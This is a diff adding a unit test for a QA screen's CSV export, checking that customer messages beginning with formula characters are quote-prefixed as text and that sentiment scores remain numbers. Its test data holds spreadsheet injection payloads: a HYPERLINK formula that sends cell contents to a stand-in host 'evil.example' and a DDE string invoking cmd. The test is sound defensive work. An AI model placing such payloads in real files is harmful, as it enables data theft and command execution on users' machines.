@@ -17,4 +17,14 @@ describe("the QA screen's CSV export", () => {
     expect(turn).toMatchObject({ conversationId: 'csv-1', speaker: 'customer', text: said, label: 'negative' });
     expect(rows.filter((r) => r.kind === 'alert').length).toBe(c.alerts.length);
   });
+
+  it('keeps a customer\'s formula as text for spreadsheet programs, and figures as numbers', () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)'];
+    const c = play(formulas.map((text) => ['customer', text, scoreOf('negative')] as const), { conversationId: 'csv-2' });
+    const rows = parse(toCsv(viewOf(c, c.updatedAt)), { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows.filter((r) => r.kind === 'turn').map((r) => r.text)).toEqual(formulas.map((f) => `'${f}`));
+    const turn = rows.find((r) => r.kind === 'turn')!;
+    expect(Number(turn.valence)).toBeLessThan(0);
+    expect(turn.valence).toBe(String(Number(c.turns[0]!.score.valence.toFixed(3))));
+  });
 });
